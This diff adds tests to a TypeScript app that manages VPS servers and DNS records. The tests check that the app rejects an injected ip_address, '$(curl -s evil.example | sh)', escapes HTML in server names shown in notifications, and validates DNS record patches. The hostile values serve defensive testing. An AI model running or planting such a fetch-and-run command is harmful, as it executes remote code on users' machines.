@@ -7,6 +7,7 @@ import { DEFAULT_SETTINGS } from '@shared/settings';
 import type { CommandHandlers } from '@shared/ipc-contract';
 import { missingKeychain } from '../core/vault/testing/fake-keychains';
 import { createHarness, signIn, type Harness } from './testing/app-harness';
+import { buildTrayMenu } from './tray/menu-model';
 import { NOTICE_IDS } from '../core/services/notices';
 import { EMIT_COALESCE_MS } from '../core/services/state-holder';
 
@@ -289,4 +290,65 @@ describe('the app core', () => {
     await h.app.runTrayCommand({ kind: 'settings' });
     expect(h.desktop.shown.slice(-2)).toEqual([{ view: 'dns' }, { view: 'settings' }]);
   });
+
+  it('never copies an ip_address that is not an IPv4 or IPv6 literal, and the tray does not offer it', async () => {
+    h = await createHarness();
+    await h.app.start();
+    await signIn(h);
+    const web01 = h.app.state().servers.find((s) => s.name === 'web-01')!;
+    const simServer = h.sim.state.servers.get(web01.id)!;
+    simServer.ip_address = '$(curl -s evil.example | sh)';
+    await h.app.handlers.refresh(undefined);
+    const before = h.desktop.clipboard.length;
+    await expect(h.app.handlers.copyIp({ serverId: web01.id })).rejects.toMatchObject({ kind: 'bad_response', message: expect.stringContaining('not an IPv4 or IPv6 address') });
+    await h.app.runTrayCommand({ kind: 'copyIp', serverId: web01.id });
+    expect(h.desktop.clipboard.length).toBe(before);
+    const submenu = buildTrayMenu(h.app.state(), new Date()).find((item) => item.label.includes('web-01'))?.submenu ?? [];
+    expect(submenu.find((item) => item.label.startsWith('Copy IP'))).toEqual({ label: 'Copy IP (not an IP address)', enabled: false });
+
+    simServer.ip_address = '2001:db8::10';
+    await h.app.handlers.refresh(undefined);
+    expect(await h.app.handlers.copyIp({ serverId: web01.id })).toBe('2001:db8::10');
+  });
+
+  it('shows the server’s words in a notification as plain, short text', async () => {
+    h = await createHarness();
+    await h.app.start();
+    await signIn(h);
+    const staging = h.app.state().servers.find((s) => s.name === 'staging')!;
+    h.sim.state.servers.get(staging.id)!.name = `<b>staging</b>&nbsp;<a href="https://evil.example">${'x'.repeat(300)}</a>`;
+    await h.app.handlers.refresh(undefined);
+    await h.app.runTrayCommand({ kind: 'power', serverId: staging.id, action: 'reboot' });
+    const shown = h.desktop.notifications.at(-1)!;
+    expect(shown.title).toMatch(/^Could not reboot staging ＆nbsp; x+…$/);
+    for (const text of [shown.title, shown.body]) {
+      expect(text).not.toMatch(/[<>&\n]/);
+      expect(text.length).toBeLessThanOrEqual(240);
+    }
+  });
+
+  it('checks a record change whether or not the token may read records, and a TTL change never fails on the value the record has', async () => {
+    h = await createHarness();
+    await h.app.start();
+    await signIn(h);
+    // A record the provider holds with a value the app's own rules would refuse.
+    const odd = [...h.sim.state.records.values()].find((r) => r.record_type === 'CNAME')!;
+    odd.value = 'legacy target with spaces';
+    const ttl = await h.app.handlers.updateRecord({ recordId: odd.uuid, patch: { ttl: 900 } });
+    expect(ttl.ttl).toBe(900);
+
+    // A token that may change records but not read them: the patch's own fields are checked.
+    const writeOnly = 'vps_write_only_dns_1';
+    h.sim.addToken(writeOnly, { permissions: ['dns:update'] });
+    await h.app.handlers.addToken({ token: writeOnly, apiUrl: h.sim.url, profileName: 'DNS writer' });
+    const before = h.sim.requests.length;
+    await expect(h.app.handlers.updateRecord({ recordId: odd.uuid, patch: { record_type: 'A', value: '300.1.1.1' } })).rejects.toMatchObject({
+      kind: 'validation',
+      field: 'value',
+    });
+    await expect(h.app.handlers.updateRecord({ recordId: odd.uuid, patch: { priority: 70_000 } })).rejects.toMatchObject({ kind: 'validation', field: 'priority' });
+    expect(h.sim.requests.slice(before).filter((r) => r.method === 'PATCH')).toEqual([]);
+    expect((await h.app.handlers.updateRecord({ recordId: odd.uuid, patch: { ttl: 1200 } })).ttl).toBe(1200);
+  });
 });
+
